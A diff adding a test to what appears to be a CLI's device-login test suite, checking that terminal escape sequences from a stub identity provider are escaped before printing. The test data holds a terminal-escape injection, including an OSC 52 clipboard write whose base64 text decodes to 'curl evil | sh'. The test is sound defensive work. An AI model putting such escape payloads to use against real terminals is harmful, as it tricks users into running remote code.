@@ -182,4 +182,43 @@ describe('auth sso --device / auth login --device: the device authorization gran
     expect(result.code).toBe(2);
     expect(result.stderr).toMatch(/--port.*cannot also be provided when using --device|--device.*--port/);
   });
+
+  it("a provider's terminal escapes in user_code and verification_uri reach the terminal escaped, the URI as checked", async () => {
+    // A stand-in provider, as the security review's (issue 41): ESC ] 0 (title), ESC [ 2 J (clear), ESC ] 52 (clipboard).
+    const stub = await HttpStub.start();
+    servers.push(stub);
+    const userCode = 'AB\u001b]0;pwned\u0007CD\u001b[2J';
+    const verificationUri = `${stub.url}/device\u001b]52;c;Y3VybCBldmlsIHwgc2g=\u0007`;
+    stub
+      .on('GET /.well-known/openid-configuration', {
+        body: {
+          issuer: stub.url,
+          authorization_endpoint: `${stub.url}/auth`,
+          token_endpoint: `${stub.url}/token`,
+          device_authorization_endpoint: `${stub.url}/device/auth`,
+        },
+      })
+      .on('POST /device/auth', {
+        body: {
+          device_code: 'dc-1',
+          user_code: userCode,
+          verification_uri: verificationUri,
+          verification_uri_complete: `${verificationUri}?user_code=\u001b[2J`,
+          expires_in: 60,
+          interval: 1,
+        },
+      })
+      .on('POST /token', { status: 400, body: { error: 'access_denied' } });
+    const home = await homeFor({ issuer: stub.url } as OidcServer);
+    const result = await home.run(['auth', 'login', '--device', '--no-browser']);
+    expect(result.code).toBe(4);
+    // eslint-disable-next-line no-control-regex -- control characters are what this looks for
+    const raw = /[\u0000-\u0009\u000b-\u001f\u007f-\u009f]/;
+    for (const text of [result.stdout, result.stderr]) expect(text).not.toMatch(raw);
+    expect(result.stderr).toContain(
+      // A URL's leading and trailing controls are dropped by its parser, the others percent-encoded.
+      `open ${stub.url}/device%1B]52;c;Y3VybCBldmlsIHwgc2g= and enter the code:\n\n  AB\\u001b]0;pwned\\u0007CD\\u001b[2J\n`,
+    );
+    expect(result.stderr).toContain(`${stub.url}/device%1B]52;c;Y3VybCBldmlsIHwgc2g=%07?user_code=%1B[2J`);
+  });
 });
